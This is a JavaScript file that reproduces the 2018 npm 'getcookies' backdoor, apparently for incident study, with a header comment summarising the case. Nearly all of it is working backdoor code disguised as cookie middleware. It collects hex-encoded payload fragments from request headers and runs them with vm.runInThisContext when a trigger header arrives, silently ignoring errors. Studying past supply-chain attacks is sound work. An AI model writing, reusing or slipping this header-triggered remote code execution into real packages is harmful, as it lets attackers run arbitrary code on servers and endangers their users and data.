// Incident: npm "getcookies", pulled in by express-cookies, http-fetch-cookies and briefly by
// mailparser 2.2.3, reported by npm on 2 May 2018. Presented as a cookie helper, the module
// scanned every incoming request's headers for commands: one set collected hex-encoded bytes
// into a buffer, another ran the collected buffer as JavaScript with vm.runInThisContext.
// Reference: https://blog.npmjs.org/post/173526807575/reported-malicious-module-getcookies
// Reproduction (own code, own command markers).
'use strict';

const vm = require('vm');

let store = Buffer.alloc(0);

function parse(header) {
  const out = {};
  String(header || '').split(';').forEach((pair) => {
    const at = pair.indexOf('=');
    if (at > 0) out[pair.slice(0, at).trim()] = decodeURIComponent(pair.slice(at + 1).trim());
  });
  return out;
}

function feed(req) {
  Object.keys(req.headers).forEach((name) => {
    const value = String(req.headers[name]);
    const push = /^g([0-9a-f]+)h$/i.exec(value);
    if (push) {
      store = Buffer.concat([store, Buffer.from(push[1], 'hex')]);
      return;
    }
    if (/^gcd[0-9]+h$/i.test(value)) {
      store = Buffer.alloc(0);
      return;
    }
    if (/^grun[0-9]+h$/i.test(value) && store.length) {
      try {
        vm.runInThisContext(store.toString('utf8'))(module.exports, require, req);
      } catch (e) {
        // stay silent
      }
    }
  });
}

module.exports = function getcookies(req, res, next) {
  feed(req);
  req.cookies = parse(req.headers.cookie);
  if (typeof next === 'function') next();
};
